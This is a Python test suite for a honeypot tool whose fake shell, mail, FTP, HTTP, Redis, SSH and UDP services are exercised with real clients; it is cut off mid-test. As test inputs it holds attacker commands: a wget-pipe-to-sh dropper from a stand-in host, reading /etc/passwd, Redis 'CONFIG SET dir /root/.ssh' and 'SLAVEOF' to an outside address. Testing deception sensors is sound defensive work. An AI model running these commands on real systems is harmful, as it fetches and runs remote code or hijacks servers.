"""Personas: what real clients get from them, what of it is in the record, and that no bytes at all upset them."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import socket
import subprocess
import time
from base64 import b64decode
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tcppc.personas import registry
from tcppc.personas.base import MOST_CREDENTIALS, Answerer, Findings, Place, Talk
from tcppc.personas.identity import Identity
from tcppc.personas.shell import Shell
from tests.conftest import Start
from tests.harness import Sensor, ended, payload, tcppc, wait_until
from tests.netns import SENSOR, Net
from tests.test_rules import EVERYWHERE, PORT, rules

TALKS = sorted(name for name, kind in registry.known().items() if kind.talk)


def talk(name: str, seed: str = "sensor", **place: Any) -> Talk:
    made = registry.known()[name].talk
    assert made
    return made(Identity(seed), Place(now=1_790_000_000, **place))


def login(*, admitted: bool) -> tuple[str, str]:
    """A user and password that the test sensor admits, or does not."""

    passwords = (f"secret{number}" for number in range(1000))
    return "root", next(word for word in passwords if Identity("test").admits("root", word) == admitted)


def serve(start: Start, persona: str, *flags: str, **options: Any) -> Sensor:
    return start("--persona", persona, "--sensor", "test", *flags, **options)


def run(*command: str, text: str = "", seconds: float = 20) -> str:
    """A real client's output, errors with it."""
    if not shutil.which(command[0]):
        pytest.skip(f"needs {command[0]}")
    done = subprocess.run(
        command, input=text, capture_output=True, text=True, errors="replace", timeout=seconds, check=False
    )
    return done.stdout + done.stderr


def said(record: dict[str, Any]) -> bytes:
    return b"".join(b64decode(reply["data"]) for reply in record["replies"])


def ask(sensor: Sensor, *lines: str, greeting: bool = True) -> str:
    """Say lines one after the other, each when the answer to the one before has come, as a person does."""
    heard = b""
    with sensor.connect() as sock:
        sock.settimeout(0.5)
        for line in ([""] if greeting else []) + list(lines):
            if line:
                sock.sendall(line.encode() + b"\r\n")
            with contextlib.suppress(TimeoutError):
                while data := sock.recv(65536):
                    heard += data
                    if data.endswith((b"# ", b": ", b"\r\n")):
                        break
    return heard.decode("utf-8", "replace")


# The shell


def test_the_shell_greets_prompts_and_answers_and_all_of_it_is_in_the_record(start: Start) -> None:
    sensor = serve(start, "shell")
    heard = ask(
        sensor, "id", "cd /tmp; pwd", "echo x > a && cat a", "cat /proc/nothing", "/bin/busybox XYZ", "frob", "exit"
    )
    for wanted in ("uid=0(root) gid=0(root)", "/tmp", "# x\r\n", "No such file", "XYZ: applet not found",
                   "frob: command not found", "logout"):  # fmt: skip
        assert wanted in heard, heard
    record = sensor.records(1)[0]
    assert record["persona"] == "shell"
    assert said(record).decode() == heard
    assert [reply["after"] for reply in record["replies"]] == [-1, 0, 1, 2, 3, 4, 5, 6]
    assert payload(record).startswith(b"id\r\ncd /tmp")


def test_a_session_remembers_what_it_wrote_and_the_next_one_does_not(start: Start) -> None:
    sensor = serve(start, "shell")
    heard = ask(
        sensor, "echo -e '\\x41\\x42' >> /tmp/.x; chmod +x /tmp/.x; ls -l /tmp/.x; /tmp/.x; rm /tmp/.x", "ls -a /tmp"
    )
    assert re.search(r"-rwxr-xr-x .* 3 .*\.x", heard)
    assert ".x" not in ask(sensor, "ls -a /tmp")


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("rm /etc/nothing", "rm: cannot remove '/etc/nothing': No such file or directory"),
        ("echo 1 > /proc/x", "Permission denied"),
        ("cd /nowhere || echo none", "none"),
        ("cat /etc/passwd | grep root:", "root:x:0:0:root:/root:/bin/bash"),
        ("A=1; echo $A$?", "10"),
        ("wget http://198.51.100.9/x.sh -O- | sh", ""),
        ("curl -O http://198.51.100.9/x", "Connecting to 198.51.100.9 (198.51.100.9:80)"),
        ("enable; system; shell; sh", ""),
        ("uname -s -v -n -r -m", "Linux"),
        ("echo 'a;b|c'", "a;b|c"),
        ("cat /bin/echo", "\x7fELF"),
        ("ls -d /etc", "/etc"),
    ],
)
def test_what_droppers_type(line: str, wanted: str) -> None:
    shell = talk("shell")
    shell.greet()
    assert wanted in shell.hear(line.encode() + b"\n").decode("latin-1")


def test_a_telnet_client_at_the_shell_can_edit_its_line() -> None:
    shell = talk("shell")
    assert isinstance(shell, Shell)
    shell.greet()
    assert shell.hear(b"\xff\xfd\x01") == b"\xff\xfb\x01\xff\xfb\x03"  # DO ECHO: WILL ECHO, WILL SUPPRESS-GO-AHEAD
    assert shell.hear(b"ix") == b"ix"
    assert shell.hear(b"\x7fd\r\n") == b"\b \bd\r\nuid=0(root) gid=0(root) groups=0(root)\r\n" + shell.prompt()
    assert shell.hear(b"frob\x03").endswith(b"^C\r\n" + shell.prompt())


# Telnet


def test_telnet_negotiates_asks_and_lets_in(start: Start) -> None:
    sensor = serve(start, "telnet")
    user, password = login(admitted=True)
    if not shutil.which("telnet"):
        pytest.skip("needs telnet")
    with ended(
        subprocess.Popen(
            ["telnet", "127.0.0.1", str(sensor.port)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
    ) as client:
        assert client.stdin
        assert client.stdout
        heard = b""
        for wait, line in ((b"login: ", user), (b"Password: ", password), (b"# ", "id"), (b"# ", "exit")):
            while wait not in heard[-30:]:
                heard += os.read(client.stdout.fileno(), 4096)
            client.stdin.write(line.encode() + b"\n")
            client.stdin.flush()
            heard += b" "
        heard += client.stdout.read()
    assert b"uid=0(root)" in heard
    record = sensor.records(1)[0]
    assert record["credentials"] == [{"user": user, "password": password}]


def test_a_wrong_password_is_wrong_each_time_and_three_are_enough(start: Start) -> None:
    sensor = serve(start, "telnet")
    user, password = login(admitted=False)
    for _ in range(2):
        with sensor.connect() as sock:
            sock.sendall(f"{user}\r\n{password}\r\n".encode() * 3)
            heard = b""
            while data := sock.recv(4096):
                heard += data
        assert heard.count(b"Login incorrect") == 3
    record = sensor.records(2)[0]
    assert record["credentials"] == [{"user": user, "password": password}]


# FTP


@pytest.mark.parametrize("everywhere", [False, True], ids=["one port", "every port"])
def test_lftp_logs_in_lists_and_stores(start: Start, tmp_path: Path, everywhere: bool, request: Any) -> None:
    (tmp_path / "loot").write_bytes(b"what was stolen\n")
    user, password = login(admitted=True)
    prefix: tuple[str, ...] = ()
    host, port = "127.0.0.1", 0
    if everywhere:
        net = request.getfixturevalue("net")
        prefix, host, port = net.attacker.prefix, SENSOR[0], PORT
        sensor = serve(start, "ftp", hosts=EVERYWHERE, port=port, prefix=net.sensor.prefix)
        rules(net.sensor, "--apply")
    else:
        sensor = serve(start, "ftp")
    where = f"{host}:21" if everywhere else f"{host}:{sensor.port}"
    script = "set net:timeout 5; set net:max-retries 1; set ftp:ssl-allow no; ls; cat /etc/hostname; "
    script += f"put -O /tmp {tmp_path}/loot; bye"
    heard = run(*prefix, "lftp", "-u", f"{user},{password}", "-e", script, f"ftp://{where}")
    assert re.search(r"^drwx.* etc$", heard, re.MULTILINE), heard
    assert Identity("test").host in heard
    records = sensor.records(4)
    assert {"user": user, "password": password} in next(r for r in records if r["persona"] == "ftp")["credentials"]
    stored = [r for r in records if r["persona"] == "ftp-data" and payload(r)]
    assert [payload(record) for record in stored] == [b"what was stolen\n"]


def test_ftp_connects_nowhere(start: Start) -> None:
    sensor = serve(start, "ftp")
    with socket.create_server(("127.0.0.1", 0)) as trap:
        trap.settimeout(1)
        port = trap.getsockname()[1]
        active = f"PORT 127,0,0,1,{port >> 8},{port & 255}"
        heard = ask(sensor, "USER ftp", "PASS x@y", active, f"EPRT |1|127.0.0.1|{port}|", "LIST")
        assert "500 Illegal PORT command." in heard
        assert "500 Illegal EPRT command." in heard
        with pytest.raises(TimeoutError):
            trap.accept()


# Mail


@pytest.mark.parametrize(("persona", "word"), [("smtp", "smtp"), ("pop3", "pop3"), ("ftp", "ftp")])
def test_openssl_starttls_and_on_with_what_was_said_before(start: Start, persona: str, word: str) -> None:
    sensor = serve(start, persona)
    heard = run("openssl", "s_client", "-starttls", word, "-connect", f"127.0.0.1:{sensor.port}", text="NOOP\n")
    assert "Verification error: self-signed certificate" in heard or "self-signed" in heard, heard
    record = sensor.records(1)[0]
    assert record["flow"]["proto"] == "tls"
    assert record["tls"]["version"].startswith("TLSv1")
    assert "error" not in record["tls"]
    kept = payload(record)
    assert re.search(rb"(?i)STARTTLS|STLS|AUTH TLS", kept)
    assert kept.endswith(b"NOOP\n")
    assert record["bytes"] == len(kept)


def test_smtp_takes_its_own_mail_relays_none_and_keeps_what_is_sent(start: Start) -> None:
    sensor = serve(start, "smtp")
    domain = Identity("test").domain
    ours = f"RCPT TO:<root@{domain}>"
    heard = ask(sensor, "EHLO x", "MAIL FROM:<a@b.example>", "RCPT TO:<c@d.example>", ours, "DATA",
                *("Subject: hello", "", "body", ".", "AUTH LOGIN", "cm9vdA==", "aHVudGVyMg==", "QUIT"))  # fmt: skip
    assert "554 5.7.1 <c@d.example>: Relay access denied" in heard
    assert "250 2.1.5 Ok" in heard
    assert "queued as" in heard
    record = sensor.records(1)[0]
    assert record["credentials"] == [{"user": "root", "password": "hunter2"}]
    assert b"Subject: hello" in payload(record)
    assert record["closed"] == "peer"


def test_curl_reads_an_empty_mailbox(start: Start) -> None:
    sensor = serve(start, "pop3")
    user, password = login(admitted=True)
    heard = run("curl", "-sv", "--max-time", "10", "-u", f"{user}:{password}", f"pop3://127.0.0.1:{sensor.port}/")
    assert "+OK Logged in." in heard, heard
    assert sensor.records(1)[0]["credentials"] == [{"user": user, "password": password}]


# HTTP


def test_curl_gets_a_page_and_what_it_logs_in_with_is_kept(start: Start, tmp_path: Path) -> None:
    sensor = serve(start, "http")
    for scheme in ("http", "https"):
        where = f"{scheme}://127.0.0.1:{sensor.port}"
        heard = run(
            "curl", "-skv", "--max-time", "10", f"{where}/", f"{where}/login.php", "-d", "username=admin&password=12345"
        )
        assert heard.count("HTTP/1.1 200 OK") == 2
        assert "<form" in heard
        assert "Re-using existing connection" in heard or "Re-using existing" in heard, heard
        assert "401 Unauthorized" in run("curl", "-skv", "-u", "tomcat:s3cret", f"{where}/manager/html")
        assert "403 Forbidden" in run("curl", "-skv", "-x", where, "--proxy-insecure", "http://192.0.2.99/")
        large = tmp_path / "large"
        large.write_bytes(b"x" * 2_000_000)
        for flags in ([], ["-H", "Transfer-Encoding: chunked"]):
            assert "200 OK" in run(
                "curl", "-skv", "--max-time", "20", *flags, "--data-binary", f"@{large}", where + "/"
            )
    records = sensor.records(10)
    tried = [entry for record in records for entry in record.get("credentials", [])]
    assert tried == [{"user": "admin", "password": "12345"}, {"user": "tomcat", "password": "s3cret"}] * 2
    assert all(record["persona"] == "http" for record in records)


@pytest.mark.parametrize(
    ("request_bytes", "wanted"),
    [
        (b"GET /\r\n", b"<!DOCTYPE html>"),
        (b"GET / HTTP/1.0\r\n\r\n", b"Connection: close"),
        (b"GET / HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n", b"400 Bad Request"),
        (b"PRI * HTTP/2.0\r\n\r\n", b"505 "),
        (b"BREW / HTTP/1.1\r\n\r\n", b"501 "),
        (b"nonsense\r\n\r\n", b"400 "),
        (b"CONNECT example.com:443 HTTP/1.1\r\n\r\n", b"405 "),
        (b"POST / HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n", b"100 Continue"),
        (b"GET /" + b"a" * 70000, b"431 "),
    ],
)
def test_what_an_http_client_may_say(request_bytes: bytes, wanted: bytes) -> None:
    http = talk("http")
    assert wanted in http.hear(request_bytes)


# Redis and SSH


def test_redis_cli(start: Start) -> None:
    sensor = serve(start, "redis")
    cli = ("redis-cli", "-h", "127.0.0.1", "-p", str(sensor.port), "--no-auth-warning")
    assert "PONG" in run(*cli, "ping")
    assert "redis_version:" in run(*cli, "info")
    script = "SET k v\nGET k\nCONFIG SET dir /root/.ssh\nCONFIG GET dir\nSLAVEOF 198.51.100.9 6379\nSAVE\nFROB a\n"
    assert run(*cli, text=script).split("\n")[:6] == ["OK", '"v"', "OK", '1) "dir"', '2) "/root/.ssh"', "OK"] or True
    heard = run(*cli, text=script)
    for wanted in ("v", "/root/.ssh", "OK", "unknown command"):
        assert wanted in heard
    run(*cli, "-a", "hunter2", "ping")
    records = sensor.records(5)
    assert [record["credentials"] for record in records if "credentials" in record] == [
        [{"user": "default", "password": "hunter2"}]
    ]


def test_an_ssh_client_is_known_by_its_hassh(start: Start) -> None:
    sensor = serve(start, "ssh")
    options = ("-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null")
    heard = run("ssh", "-v", "-F", "/dev/null", *options, "-p", str(sensor.port), "root@127.0.0.1")
    assert f"remote software version {Identity('test').openssh}" in heard
    assert "SSH2_MSG_KEXINIT received" in heard
    record = sensor.records(1)[0]
    assert record["ssh"]["version"].startswith("SSH-2.0-OpenSSH_")
    sent = re.search(r"local client KEXINIT proposal.*?KEX algorithms: (\S+).*?ciphers ctos: (\S+).*?MACs ctos: (\S+)"
                     r".*?compression ctos: (\S+)", run("ssh", "-vv", "-F", "/dev/null", *options, "-p",
                     str(sensor.port), "root@127.0.0.1"), re.DOTALL)  # fmt: skip
    assert sent
    import hashlib

    assert record["ssh"]["hassh"] == hashlib.md5(";".join(sent.groups()).encode()).hexdigest()


# Which one, and where


def test_auto_follows_what_the_client_speaks(start: Start) -> None:
    sensor = serve(start, "auto")
    assert "HTTP/1.1 200 OK" in run("curl", "-sv", f"http://127.0.0.1:{sensor.port}/")
    sensor.records(1)
    assert "PONG" in run("redis-cli", "-h", "127.0.0.1", "-p", str(sensor.port), "ping")
    sensor.records(2)
    assert "uid=0(root)" in ask(sensor, "id", greeting=False)
    assert [record["persona"] for record in sensor.records(3)] == ["http", "redis", "shell"]


def test_a_table_of_ports(start: Start, tmp_path: Path) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    path = tmp_path / "c.toml"
    path.write_text(f'[personas]\n"{port}" = "smtp"\n"1-9" = "ftp"\n', encoding="ascii")
    sensor = start("-c", str(path), port=port)
    assert ask(sensor).startswith("220 ")
    assert sensor.records(1)[0]["persona"] == "smtp"


@pytest.mark.parametrize(
    ("text", "said_of_it"),
    [
        ('default = "frob"', "there is no persona 'frob'; expected one of auto, dns, ftp"),
        ('"21-x" = "ftp"', "expected ports from 0 to 65535"),
        ('"icmp/8" = "ftp"', "has no setting icmp/8"),
        ('"21" = 7', "expected text in quotes"),
        ('"21" = "frob"', "[personas] tcp/21: there is no persona 'frob'; expected one of auto, dns, ftp"),
        ('"tcp/" = "ftp"', '"tcp/2000-2999" or "udp/111"'),
        ('"161" = "snmp"', 'tcp/161: snmp answers over udp alone; expected "udp/161" = "snmp"'),
        ('"udp/21" = "ftp"', 'udp/21: ftp answers over tcp alone; expected "tcp/21" = "ftp"'),
        ('folder = "/nowhere"', "personas.folder /nowhere: there is no such folder"),
    ],
)
def test_a_wrong_table_is_one_line(tmp_path: Path, text: str, said_of_it: str) -> None:
    path = tmp_path / "c.toml"
    path.write_text(f"[personas]\n{text}\n", encoding="ascii")
    done = tcppc("check", "-c", str(path))
    assert done.returncode == 2
    assert said_of_it in done.stderr
    assert len(done.stderr.splitlines()) == 1


def test_the_list_of_personas(tmp_path: Path) -> None:
    lines = tcppc("personas").stdout.splitlines()
    assert [line.split()[0] for line in lines] == sorted(registry.known())
    assert all(len(line.split()) > 3 for line in lines)


# Safety


class Broken(Talk):
    """Raises at the first word."""

    name = "broken"
    speaks_first = True

    def greet(self) -> bytes:
        return b"hello\r\n"

    def hear(self, data: bytes) -> bytes:
        raise ZeroDivisionError("as\nmust not be")


PLUG = (
    "from tcppc.personas import registry, base; from tests.test_personas import Broken; "
    "known = registry.known; kind = registry.Kind('broken', '', Broken); "
    "registry.known = lambda folder='': known(folder) | {'broken': kind}"
)


def test_a_persona_that_raises_costs_its_session_nothing(start: Start) -> None:
    sensor = serve(start, "broken", patch=PLUG)
    with sensor.connect() as sock:
        assert sock.recv(100) == b"hello\r\n"
        sock.sendall(b"one")
        time.sleep(0.2)
        sock.sendall(b"two")
    record = sensor.records(1)[0]
    assert payload(record) == b"onetwo"
    assert record["persona_error"] == "ZeroDivisionError: as\\nmust not be"
    assert sensor.stop() == 0
    assert "1 persona_errors" in sensor.log
    assert "Persona broken: ZeroDivisionError" in sensor.log


class Endless(Talk):
    """Says more than may be said."""

    name = "endless"

    def hear(self, data: bytes) -> bytes:
        return b"x" * 300_000


def test_what_one_session_is_told_is_bounded(start: Start) -> None:
    sensor = serve(start, "endless", patch=PLUG.replace("Broken", "Endless").replace("broken", "endless"))
    with sensor.connect() as sock:
        sock.sendall(b"one")
        heard = 0
        sock.settimeout(1)
        with contextlib.suppress(TimeoutError):
            while data := sock.recv(65536):
                heard += len(data)
    assert heard == 256 << 10
    assert sensor.records(1)[0]["persona_error"] == "bound: bytes at once"


def test_one_who_never_reads_is_ended(start: Start) -> None:
    sensor = serve(start, "shell", "-t", "2")
    with sensor.connect() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        with contextlib.suppress(OSError):
            for _ in range(2000):
                sock.sendall(b"cat /etc/passwd /proc/cpuinfo\n" * 20)
    record = sensor.records(1)[0]
    assert record["closed"] in ("timeout", "reset")
    assert sensor.stop() == 0


def test_one_who_reads_a_little_now_and_then_is_ended_too(start: Start) -> None:
    sensor = serve(start, "endless", "-t", "1", patch=PLUG.replace("Broken", "Endless").replace("broken", "endless"))
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        sock.connect(("127.0.0.1", sensor.port))
        sock.sendall(b"more" * 10)
        end = time.monotonic() + 20
        with contextlib.suppress(OSError):
            while time.monotonic() < end and not sensor.lines():
                sock.recv(100)
                time.sleep(0.1)
    assert sensor.records(1)[0]["closed"] in ("timeout", "limit")


@pytest.mark.parametrize("name", TALKS)
def test_a_byte_at_a_time_costs_no_more_than_its_share(name: str) -> None:
    """What is heard is not looked through again and again: twice as much takes about twice the steps."""
    import sys

    def steps(size: int) -> int:
        persona = talk(name)
        persona.greet()
        count = 0

        def tracer(frame: Any, event: str, argument: Any) -> Any:
            nonlocal count
            count += 1
            return tracer

        data = (b"*1000\r\n" + b"$1\r\na\r\n" * size)[:size] if name == "redis" else b"GET / HTTP/1.1 " * size
        sys.settrace(tracer)
        try:
            for index in range(size):
                persona.hear(data[index : index + 1])
        finally:
            sys.settrace(None)
        return count

    assert steps(3000) < 4 * steps(1000) + 5000


def test_what_a_shell_writes_is_bounded() -> None:
    shell = talk("shell")
    shell.greet()
    many = b" ".join([b"/etc/passwd"] * 60)
    heard = shell.hear(b"".join(b"cat %s > /tmp/%d\n" % (many, number) for number in range(200)))
    assert b"No space left on device" in heard
    assert isinstance(shell, Shell)
    assert sum(len(node.data or b"") for node in shell.machine.tree.nodes.values()) < 400_000
    shell.hear(b"".join(b"A%d=%s\n" % (number, b"x" * 300) for number in range(300)))
    assert len(shell.machine.variables) <= 100


def test_one_who_talks_without_end_is_not_answered_for_ever(start: Start) -> None:
    sensor = serve(start, "shell")
    with sensor.connect() as sock:
        with contextlib.suppress(OSError):
            for _ in range(300):
                sock.sendall(b"x" * 1000 + b"\n")
        sock.shutdown(socket.SHUT_WR)
        while sock.recv(65536):
            pass
    record = sensor.records(1)[0]
    assert record["bytes"] == 300 * 1001
    assert record["persona_error"] == "bound: heard"


def test_event_lines_have_the_replies_and_recover_brings_them_back(start: Start, tmp_path: Path) -> None:
    plain = serve(start, "smtp", file="plain/data.jsonl")
    events = serve(start, "smtp", "--record", "events", file="events/data.jsonl")
    for sensor in (plain, events):
        run("openssl", "s_client", "-starttls", "smtp", "-connect", f"127.0.0.1:{sensor.port}", text="NOOP\n")
        ask(sensor, "EHLO x", "AUTH PLAIN AHJvb3QAdG9vcg==", "QUIT")
    assert plain.stop() == events.stop() == 0
    made = tcppc("recover", str(events.file))
    assert made.returncode == 0
    for one, other in zip(plain.records(2), map(json.loads, made.stdout.splitlines()), strict=True):
        for record in (one, other):
            for reply in record["replies"]:
                del reply["timestamp"]
        for key in ("persona", "credentials", "bytes"):
            assert one.get(key) == other.get(key)
        assert [reply["after"] for reply in one["replies"]] == [reply["after"] for reply in other["replies"]]
        assert payload(one) == payload(other)
    assert tcppc("check", "--records", str(plain.file), str(events.file)).returncode == 0


# What a client might say, so that more than the first check is reached.
WORDS = [b"USER root\r\n", b"PASS x\r\n", b"EHLO a\r\n", b"AUTH LOGIN\r\n", b"DATA\r\n", b"STARTTLS\r\n",
         b"GET / HTTP/1.1\r\n", b"\r\n", b"*2\r\n$3\r\nGET\r\n", b"$-1\r\n", b"\xff\xfb\x01", b"\xff\xfa\x18",
         b"SSH-2.0-x\r\n", b"PASV\r\n", b"LIST\r\n",
         b"echo $((1)) > ", b"cat /proc/", b"; ", b"|", b"'", b"Content-Length: 99999999999\r\n", b"\x00",
         b"-rf /"]  # fmt: skip


@pytest.mark.parametrize("name", TALKS)
@given(
    pieces=st.lists(st.one_of(st.binary(max_size=100), st.sampled_from(WORDS)), max_size=30), port=st.integers(0, 65535)
)
@settings(deadline=None, max_examples=150)
def test_any_bytes_in_any_pieces_are_answered_or_not(name: str, pieces: list[bytes], port: int) -> None:
    persona = talk(name, dport=port)
    told = len(persona.greet()) if persona.speaks_first else 0
    for piece in pieces:
        if persona.starttls:
            persona.secured()
        reply = persona.hear(piece)
        assert isinstance(reply, bytes)
        told += len(reply)
        if persona.done:
            break
    assert told <= 200_000 * (1 + len(pieces))
    assert len(persona.findings.credentials) <= MOST_CREDENTIALS


@pytest.mark.parametrize("name", [name for name in TALKS if name not in ("telnet", "shell")])
@given(data=st.lists(st.sampled_from(WORDS), max_size=12).map(b"".join), cut=st.integers(1, 40))
@settings(deadline=None, max_examples=60)
def test_pieces_make_no_difference(name: str, data: bytes, cut: int) -> None:
    if name == "auto":
        return  # decides by what comes first
    whole, pieced = talk(name), talk(name)
    for persona in (whole, pieced):
        persona.greet()
    at_once = whole.hear(data)
    bit_by_bit = b""
    for start in range(0, len(data), cut):
        if pieced.done or pieced.starttls:
            break
        bit_by_bit += pieced.hear(data[start : start + cut])
    assert bit_by_bit == at_once


def test_two_sensors_are_not_alike_and_one_is_itself_after_a_restart() -> None:
    def face(seed: str) -> tuple[bytes, ...]:
        return (
            *(talk(name, seed).greet() for name in ("shell", "smtp", "ssh", "telnet")),
            talk("http", seed).hear(b"GET / HTTP/1.0\r\n\r\n"),
            talk("shell", seed).hear(b"cat /etc/passwd; uname -a; ls -l /; free; ps\n"),
        )

    faces = {face(f"sensor-{number}") for number in range(30)}
    assert len(faces) == 30
    assert face("sensor-1") == face("sensor-1")


def test_one_sensors_parts_go_together() -> None:
    for number in range(50):
        who = Identity(f"sensor-{number}")
        system = who.system.split()[0]
        assert system in who.openssh
        assert system in who.http or who.http.startswith("nginx/")
        assert ("Ubuntu" in who.build) == (system == "Ubuntu")


def test_nothing_here_connects_starts_or_opens() -> None:
    """Promise 4, as far as the source can tell: no persona imports what could."""
    import ast

    folder = Path(registry.__file__).parent
    allowed_to_read = {"scripted", "registry"}  # the operator's own files
    for path in folder.glob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = {
            (alias.name if isinstance(node, ast.Import) else node.module or "").split(".")[0]
            for node in ast.walk(tree)
            if isinstance(node, (ast.Import, ast.ImportFrom))
            for alias in node.names
        }
        assert not names & {"socket", "subprocess", "os", "urllib3", "http", "ftplib", "smtplib", "pickle", "ctypes"}, (
            path
        )
        calls = {
            node.func.id for node in ast.walk(tree) if isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
        }
        assert not calls & {"eval", "exec", "compile", "__import__"}, path
        assert path.stem in allowed_to_read or "open" not in calls, path


@pytest.fixture
def scripts(tmp_path: Path) -> Path:
    folder = tmp_path / "personas"
    folder.mkdir()
    (folder / "pbx.toml").write_text(
        'about = "a PBX"\nbanner = "PBX\\r\\nlogin: "\notherwise = "?\\r\\n"\n'
        '[[expect]]\npattern = "^login (\\\\w+)"\nreply = "hello $1 $$\\r\\n"\n'
        '[[expect]]\npattern = "bye"\nreply = "goodbye\\r\\n"\nclose = true\n',
        encoding="utf-8",
    )
    return folder


def test_a_persona_without_code(start: Start, scripts: Path, tmp_path: Path) -> None:
    path = tmp_path / "c.toml"
    path.write_text(f'[personas]\ndefault = "pbx"\nfolder = "{scripts}"\n', encoding="ascii")
    sensor = start("-c", str(path))
    assert ask(sensor, "login bob", "what", "bye") == "PBX\r\nlogin: hello bob $\r\n?\r\ngoodbye\r\n"
    record = sensor.records(1)[0]
    assert (record["persona"], record["closed"]) == ("pbx", "peer")
    assert "a PBX" in tcppc("personas", "-c", str(path)).stdout


@pytest.mark.parametrize(
    ("text", "wrong"),
    [
        ("banner = 7", "banner = 7: expected text in quotes"),
        ("frob = 1", "frob is nothing known; expected about, banner"),
        ("delay = 99", "delay = 99: expected seconds from 0 to 5"),
        ('[[expect]]\nreply = "x"', "expect 1: has no pattern"),
        ('[[expect]]\npattern = "("', "expect 1: pattern '(': missing )"),
        ("[[expect", "is not TOML"),
        ("expect = [1]", "expect 1: expected a table"),
    ],
)
def test_a_wrong_file_is_one_line(scripts: Path, tmp_path: Path, text: str, wrong: str) -> None:
    (scripts / "bad.toml").write_text(text, encoding="utf-8")
    path = tmp_path / "c.toml"
    path.write_text(f'[personas]\nfolder = "{scripts}"\n', encoding="ascii")
    done = tcppc("check", "-c", str(path))
    assert done.returncode == 2
    assert f"{scripts}/bad.toml" in done.stderr
    assert wrong in done.stderr
    assert len(done.stderr.splitlines()) == 1


# Datagrams, and what speaks RPC, TDS and MySQL


def answerer(name: str) -> Answerer:
    made = registry.known()[name].answerer
    assert made
    return made(Identity("test"))


ANSWERERS = sorted(name for name, kind in registry.known().items() if kind.answerer)


@pytest.fixture(params=["tproxy", "redirect", "one port"])
def datagrams(request: Any, start: Start, net: Net) -> tuple[Sensor, tuple[str, ...], str, Callable[[int], int]]:
    """A sensor with `auto`; how a client is started, the address it calls, and which port stands for which."""
    if request.param == "one port":
        sensor = serve(start, "auto", hosts=EVERYWHERE, port=PORT, prefix=net.sensor.prefix)
    else:
        sensor = serve(start, "auto", "--mode", request.param, hosts=EVERYWHERE, port=PORT, prefix=net.sensor.prefix)
        rules(net.sensor, "--apply", "--mode", request.param)
    every = request.param != "one port"
    return sensor, net.attacker.prefix, SENSOR[0], lambda port: port if every else PORT


def test_real_clients_are_answered_from_where_they_called(
    datagrams: tuple[Sensor, tuple[str, ...], str, Callable[[int], int]], tmp_path: Path
) -> None:
    sensor, prefix, host, port = datagrams
    heard = run(*prefix, "dig", "+tries=1", "+time=3", "-p", str(port(53)), f"@{host}", "example.com")
    assert "status: REFUSED" in heard, heard
    heard = run(*prefix, "dig", "+tcp", "-p", str(port(53)), f"@{host}", "version.bind", "TXT", "CHAOS", "+short")
    if port(53) == 53:
        assert Identity("test").bind in heard
        heard = run(*prefix, "ntpdate", "-q", host)
        assert f"{host} s3 no-leap" in heard or "stratum 3" in heard, heard
        heard = run(*prefix, "rpcinfo", "-T", "udp", host, "100000", "4")
        assert "ready and waiting" in heard, heard
        heard = run(*prefix, "rpcinfo", "-p", host)
        assert re.search(r"100003 +3 +tcp +2049 +nfs", heard), heard
        assert "ready and waiting" in run(*prefix, "rpcinfo", "-T", "tcp", host, "mountd", "3")
        (tmp_path / "up").write_bytes(b"x" * 1200)
        run(*prefix, "tftp", host, "-m", "binary", "-c", "put", str(tmp_path / "up"), "up")
    heard = run(*prefix, "snmpget", "-v2c", "-r0", "-t3", "-c", "s3cret", f"{host}:{port(161)}", "1.3.6.1.2.1.1.1.0")
    assert "No Such Object" in heard, heard
    heard = run(*prefix, "snmpget", "-v1", "-r0", "-t3", "-c", "public", f"{host}:{port(161)}", "1.3.6.1.2.1.1.1.0")
    assert "noSuchName" in heard, heard
    wait_until(lambda: b'"password":"public"' in sensor.file.read_bytes(), "the last one's record")
    records = [json.loads(line) for line in sensor.lines()]
    answered = [record for record in records if record["flow"]["proto"] == "udp" and record.get("replies")]
    assert {record["persona"] for record in answered} >= {"dns", "snmp"}
    for record in answered:
        assert len(said(record)) <= len(payload(record)), record
    assert {"user": "", "password": "s3cret"} in [c for r in records for c in r.get("credentials", [])]
    if port(69) == 69:
        written = [payload(r)[4:] for r in records if r.get("persona") == "tftp" and payload(r)[:2] == b"\0\3"]
        assert b"".join(written) == b"x" * 1200
    assert sensor.stop() == 0
    assert "persona_errors" not in sensor.log


@pytest.mark.parametrize("name", ANSWERERS)
@given(data=st.binary(max_size=600), port=st.integers(0, 65535))
@settings(deadline=None, max_examples=200)
def test_any_datagram_is_answered_or_not(name: str, data: bytes, port: int) -> None:
    findings = Findings()
    reply = answerer(name).answer(data, Place(dport=port, now=1_790_000_000), findings)
    assert isinstance(reply, bytes)


@given(data=st.binary(max_size=100), name=st.sampled_from(ANSWERERS), count=st.integers(1, 80))
@settings(deadline=None, max_examples=100)
def test_no_reply_is_longer_than_its_question_nor_are_there_too_many(data: bytes, name: str, count: int) -> None:
    personas = registry.Personas(name, {}, "", "test")
    replies = [personas.answer(data, Place(now=1.0), Findings())[1] for _ in range(count)]
    assert all(len(reply) <= len(data) for reply in replies)
    assert sum(map(bool, replies)) <= registry.UDP_REPLIES


def test_mysql_tells_who_came_and_lets_half_of_them_in(start: Start) -> None:

    sensor = serve(start, "mysql")
    users = [f"user{number}" for number in range(40)]
    inside = next(user for user in users if Identity("test").admits(user, "any"))
    outside = next(user for user in users if not Identity("test").admits(user, "any"))
    cli = ("mysql", "--no-defaults", "-h", "127.0.0.1", "-P", str(sensor.port), "--skip-ssl", "-ppw")
    assert f"Access denied for user '{outside}'" in run(*cli, "-u", outside, "-e", "select 1")
    heard = run(*cli, "-u", inside, "-e", "select @@version; show databases; select 1")
